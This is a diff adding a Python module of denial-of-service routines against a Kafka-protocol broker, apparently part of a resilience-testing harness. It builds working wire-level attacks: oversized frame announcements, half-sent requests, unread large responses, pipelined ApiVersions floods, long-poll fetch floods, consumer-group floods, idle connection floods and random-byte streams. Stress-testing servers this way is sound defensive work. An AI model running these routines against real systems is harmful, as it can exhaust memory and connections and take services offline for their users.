@@ -1,0 +1,136 @@
+"""Attacks by connections: many of them, half requests, answers that nobody reads, waits that nobody ends."""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import struct
+import time
+from typing import Final
+
+from attacks.connection import Attacker, cut_off, framed, head
+from attacks.frames import TOPIC
+
+FRAME_MAX_BYTES: Final = 100 << 20
+HALF_CLIENTS: Final = 620
+HALF_BYTES: Final = 100_000
+SLOW_READERS: Final = 40
+WAITS_PER_CONNECTION: Final = 500
+GROUPS: Final = 3_000
+FLOOD_MAX: Final = 5_000
+PAUSE_S: Final = 0.05
+
+
+def announced(address: str, deadline_s: float) -> int:
+    """25 connections that announce 100 MB each, and send five bytes."""
+    return _hold(address, deadline_s, 25, struct.pack(">i", FRAME_MAX_BYTES) + b"\0")
+
+
+def halves(address: str, deadline_s: float) -> int:
+    """620 clients that stop in the middle of a request of 1 MB."""
+    request = head(0, 3) + struct.pack(">hhiih", -1, 1, 1000, 1, len(TOPIC)) + TOPIC + bytes(HALF_BYTES)
+    return _hold(address, deadline_s, HALF_CLIENTS, struct.pack(">i", 1_000_000) + request)
+
+
+def unread_answers(address: str, deadline_s: float) -> int:
+    """40 clients that ask for much and read nothing."""
+    names = b"".join(struct.pack(">h", 1) + b"%c" % (65 + n % 26) for n in range(20_000))
+    body = framed(head(3, 4) + struct.pack(">i", 20_000) + names + b"\0")
+    sent = 0
+    with contextlib.ExitStack() as stack:
+        readers = [stack.enter_context(Attacker(address, 4096)) for _ in range(SLOW_READERS)]
+        for reader in readers:
+            reader.socket.settimeout(PAUSE_S)
+        while time.monotonic() < deadline_s:
+            for reader in readers:
+                with contextlib.suppress(OSError):
+                    sent += reader.socket.send(body)
+            time.sleep(PAUSE_S)
+    return sent // len(body)
+
+
+def pipelined(address: str, deadline_s: float) -> int:
+    """ApiVersions, 20,000 of them at once on one connection, again and again."""
+    many = framed(head(18, 0)) * 20_000
+    number = 0
+    while time.monotonic() < deadline_s:
+        with cut_off(), Attacker(address) as attacker:
+            attacker.socket.setblocking(False)
+            left = memoryview(many)
+            while time.monotonic() < deadline_s:
+                with contextlib.suppress(BlockingIOError):
+                    left = left[attacker.socket.send(left) :]
+                with contextlib.suppress(BlockingIOError):
+                    number += len(attacker.socket.recv(1 << 20)) > 0
+                left = left or memoryview(many)
+    return number
+
+
+def waiting_fetches(address: str, deadline_s: float) -> int:
+    """Connections that send 500 waiting fetches each, and go."""
+    fetch = (
+        head(1, 4) + struct.pack(">iiiibih", -1, 2**31 - 1, 2**31 - 1, 2**31 - 1, 0, 1, len(TOPIC)) + TOPIC
+    )
+    many = framed(fetch + struct.pack(">iiqi", 1, 0, 0, 1 << 20)) * WAITS_PER_CONNECTION
+    number = 0
+    while time.monotonic() < deadline_s:
+        with cut_off(), Attacker(address) as attacker:
+            attacker.socket.sendall(many)
+            number += 1
+    return number
+
+
+def groups(address: str, deadline_s: float) -> int:
+    """New groups without end, with 50 kB of metadata for each member, and heartbeats to them."""
+    number = 0
+    while time.monotonic() < deadline_s:
+        with cut_off(), Attacker(address) as attacker:
+            while time.monotonic() < deadline_s:
+                name = b"group%06d" % (number % GROUPS)
+                join = (
+                    head(11, 2)
+                    + struct.pack(">h", len(name))
+                    + name
+                    + struct.pack(">iih", 100_000, 100_000, 0)
+                )
+                join += struct.pack(">h", 8) + b"consumer" + struct.pack(">ih", 1, 5) + b"range"
+                attacker.send(join + struct.pack(">i", 50_000) + bytes(50_000))
+                attacker.send(head(12, 0) + struct.pack(">h", len(name)) + name + struct.pack(">ih", 1, 0))
+                number += 1
+    return number
+
+
+def flood(address: str, deadline_s: float) -> int:
+    """Connections without end, each of which says nothing and stays."""
+    number = 0
+    with contextlib.ExitStack() as stack:
+        while time.monotonic() < deadline_s and number < FLOOD_MAX:
+            with cut_off():
+                stack.enter_context(Attacker(address))
+                number += 1
+        time.sleep(max(0.0, deadline_s - time.monotonic()))
+    return number
+
+
+def garbage(address: str, deadline_s: float) -> int:
+    """Connections that send random bytes."""
+    number = 0
+    while time.monotonic() < deadline_s:
+        with cut_off(), Attacker(address) as attacker:
+            attacker.socket.settimeout(PAUSE_S)
+            attacker.socket.sendall(os.urandom(1 << 16))
+            attacker.socket.recv(1)
+            number += 1
+    return number
+
+
+def _hold(address: str, deadline_s: float, count: int, data: bytes) -> int:
+    with contextlib.ExitStack() as stack:
+        number = 0
+        for _ in range(count):
+            with cut_off():
+                attacker = stack.enter_context(Attacker(address))
+                attacker.socket.sendall(data)
+                number += 1
+        time.sleep(max(0.0, deadline_s - time.monotonic()))
+    return number
